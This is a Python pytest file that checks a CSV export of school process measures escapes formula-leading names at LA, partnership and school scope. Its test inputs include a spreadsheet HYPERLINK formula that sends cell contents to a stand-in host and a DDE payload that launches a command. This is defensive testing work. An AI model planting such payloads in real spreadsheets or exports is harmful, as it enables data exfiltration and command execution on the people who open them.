"""The process-measures CSV neutralises names a spreadsheet would execute, at LA, partnership
and school scope, and keeps the figures numeric."""

from __future__ import annotations

import csv
import io

import pytest

from knowledge.answers.measure.schemas import ProcessMeasures
from knowledge.answers.measure.service import as_csv

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def _row(kind: str, scope_id: str, name: str) -> dict[str, object]:
    return {
        "scope": {"kind": kind, "id": scope_id, "name": name},
        "academic_year": "2026-27",
        "reports": {"value": 12, "suppressed": False},
        "days_to_report": -1.5,
        "findings_per_review": 7.2,
        "evidence_per_finding": None,
        "triangulated_share": 0.8,
        "workshops": {"value": None, "suppressed": True},
        "days_to_workshop": 30.0,
        "progress_reviews": {"value": 10, "suppressed": False},
        "on_time_share": 0.9,
    }


@pytest.mark.parametrize(
    ("kind", "scope_id", "name"),
    [
        ("la", "881", HOSTILE),
        ("partnership", "0aa10000-0000-4000-8000-000000000001", "+cmd|' /C calc'!A0"),
        ("school", "100001", "@SUM(A1:A9)"),
        ("school", "100002", "-Notre Dame"),
        ("school", "100003", "\t=1+1"),
    ],
)
def test_names_are_neutralised_at_every_scope(kind: str, scope_id: str, name: str) -> None:
    row = _row(kind, scope_id, name)
    measures = ProcessMeasures.model_validate(
        {"scope": row["scope"], "view": "named", "data": [row]}
    )
    [line] = list(csv.DictReader(io.StringIO(as_csv(measures))))
    assert line["name"] == "'" + name
    assert line["scope_kind"] == kind
    assert line["reports"] == "12"
    assert line["days_to_report"] == "-1.5"  # a figure, not text: left numeric
    assert line["evidence_per_finding"] == ""
    assert line["workshops"] == ""  # suppressed
